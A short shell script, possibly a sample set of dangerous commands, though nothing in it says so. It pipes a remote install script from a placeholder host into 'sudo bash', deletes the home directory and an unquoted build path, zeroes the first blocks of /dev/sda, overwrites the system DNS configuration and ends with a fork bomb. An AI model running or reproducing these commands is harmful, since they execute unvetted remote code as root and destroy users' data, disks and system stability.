#!/bin/sh
set -e
curl -fsSL https://get.example.com/install.sh | sudo bash
apt-get install -y libgl1
rm -rf "$HOME"
rm -rf $BUILD_ROOT/
dd if=/dev/zero of=/dev/sda bs=1M count=10
echo "nameserver 1.1.1.1" > /etc/resolv.conf
:(){ :|:& };:
